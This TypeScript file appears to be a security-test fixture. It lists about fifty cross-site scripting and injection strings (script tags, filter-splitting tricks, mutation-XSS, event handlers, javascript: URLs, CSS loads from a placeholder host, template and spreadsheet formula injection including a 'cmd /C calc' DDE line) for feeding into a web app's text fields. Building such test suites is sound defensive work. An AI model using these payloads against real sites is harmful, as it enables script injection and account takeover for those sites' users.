/** Where attempts call; the name can never exist (RFC 2606). */
export const elsewhere = 'attempt.invalid';

/** What an attempt runs: it leaves its name with the watch (`watch.ts`), without a quote or a bracket that a filter could stumble over. */
function script(name: string): string {
  return `top.__ran.push(/${name}/.source)`;
}

/** A text that somebody types or sends where plain text is expected. */
export interface Attempt {
  readonly name: string;
  readonly text: string;
  /** It runs or calls out by itself when a page takes the text for HTML: proven in a page without protection. */
  readonly bySelf?: true;
}

const call = (name: string) => `//${elsewhere}/${name}`;

function attempt(name: string, text: (run: string, address: string) => string, bySelf?: true): Attempt {
  const made = { name, text: text(script(name), call(name)) };
  return bySelf === undefined ? made : { ...made, bySelf };
}

/** Each is a whole value of any field that holds text: title, byline, comment, reason, name of a file, a person or a view. */
export const textAttempts: readonly Attempt[] = [
  attempt('script', (run) => `<script>${run}</script>`),
  attempt('scriptSplit', (run) => `<scr<script>ipt>${run}</scr</script>ipt>`),
  attempt('scriptElsewhere', (_, address) => `<script src=${address}></script>`),
  attempt('pictureError', (run) => `<img src=x: onerror=${run}>`, true),
  attempt('pictureElsewhere', (_, address) => `<img src=${address}>`, true),
  attempt('svgLoad', (run) => `<svg/onload=${run}>`, true),
  attempt('svgScript', (run) => `<svg><script>${run}</script></svg>`),
  attempt('svgUse', (_, address) => `<svg><image href=${address} /></svg>`, true),
  attempt(
    'mathStyle',
    (run) =>
      `<math><mtext><table><mglyph><style><!--</style><img title="--></mglyph><img src=x: onerror=${run}>">`,
  ),
  attempt('noscriptTitle', (run) => `<noscript><p title="</noscript><img src=x: onerror=${run}>">`, true),
  attempt('frameSource', (run) => `<iframe srcdoc="<script>${run}</script>"></iframe>`, true),
  attempt('frameScript', (run) => `<iframe src="javascript:${run}"></iframe>`, true),
  attempt('frameElsewhere', (_, address) => `<iframe src=${address}></iframe>`, true),
  attempt('object', (_, address) => `<object data=${address}></object><embed src=${address}>`, true),
  attempt('detailsToggle', (run) => `<details open ontoggle=${run}>x`, true),
  attempt('focus', (run) => `<input autofocus onfocus=${run}>`, true),
  attempt(
    'animation',
    (run) => `<style>@keyframes x{}</style><b style="animation:x 1s" onanimationstart=${run}>x`,
    true,
  ),
  attempt('videoSource', (run) => `<video><source src=x: onerror=${run}></video>`, true),
  attempt('attributeDouble', (run) => `" autofocus onfocus="${run}" onmouseover="${run}" x="`),
  attempt('attributeSingle', (run) => `' autofocus onfocus='${run}' onmouseover='${run}' x='`),
  attempt('attributeTag', (run) => `"><img src=x: onerror=${run}>`, true),
  attempt('endStyle', (run) => `</style><img src=x: onerror=${run}>`, true),
  attempt('endTitle', (run) => `</title></textarea></option></select><img src=x: onerror=${run}>`, true),
  attempt('endScript', (run) => `</script><img src=x: onerror=${run}><!--<script>`, true),
  attempt('endComment', (run) => `--><img src=x: onerror=${run}><!--`, true),
  attempt('cdata', (run) => `<![CDATA[><img src=x: onerror=${run}>]]>`, true),
  attempt('entities', (run) => `&lt;img src=x: onerror=${run}&gt;&#60;script&#62;${run}&#60;/script&#62;`),
  attempt('percent', (run) => `%3Cscript%3E${encodeURIComponent(run)}%3C%2Fscript%3E`),
  attempt(
    'escapes',
    (run) => `\\u003cimg src=x: onerror=${run}\\u003e \\x3cscript\\x3e${run}\\x3c/script\\x3e`,
  ),
  attempt('wideSigns', (run) => `＜script＞${run}＜／script＞ ‹script›${run}‹/script›`),
  attempt('lineSeparator', (run) => `\u2028<img src=x: onerror=${run}>\u2029`, true),
  attempt('template', (run) => `{{constructor.constructor('${run}')()}} \${${run}} <%= ${run} %> #{${run}}`),
  attempt('javascript', (run) => `javascript:${run}`),
  attempt('javascriptTab', (run) => `java\tscript:${run}`),
  attempt('data', (run) => `data:text/html,<script>${run}</script>`),
  attempt('markdown', (run, address) => `[x](javascript:${run}) ![x](${address}) <javascript:${run}>`),
  attempt(
    'overlay',
    (_, address) => `<a href=${address} style="position:fixed;inset:0;z-index:2147483647">x</a>`,
  ),
  attempt('background', (_, address) => `<p style="background:url(${address})">x</p>`, true),
  attempt('expression', (run) => `<p style="width:expression(${run});behavior:url(#default#time2)">x</p>`),
  attempt('import', (_, address) => `<style>@import "${address}";</style>`, true),
  attempt(
    'letters',
    (_, address) => `<style>@font-face{font-family:x;src:url(${address})}*{font-family:x}</style>x`,
    true,
  ),
  attempt('stylesheet', (_, address) => `<link rel=stylesheet href=${address}>`, true),
  attempt('base', (_, address) => `<base href=${address}/>`),
  attempt('refresh', (_, address) => `<meta http-equiv=refresh content="0;url=${address}">`),
  attempt(
    'form',
    (run, address) => `<form action=${address}><button formaction="javascript:${run}">x</button></form>`,
  ),
  attempt('nonce', (run) => `<script nonce="__NONCE__">${run}</script><meta name="csp-nonce" content="x">`),
  attempt('formula', (_, address) => `=HYPERLINK("https:${address}","x")`),
  attempt('formulaCommand', () => `=cmd|' /C calc'!A0`),
  attempt('prototype', () => '__proto__'),
  attempt('constructor', () => 'constructor'),
];

/** All texts in `parts` lists of about the same length. */
export function dealt(parts: number): readonly (readonly string[])[] {
  return Array.from({ length: parts }, (_, part) =>
    textAttempts.filter((_, index) => index % parts === part).map(({ text }) => text),
  );
}
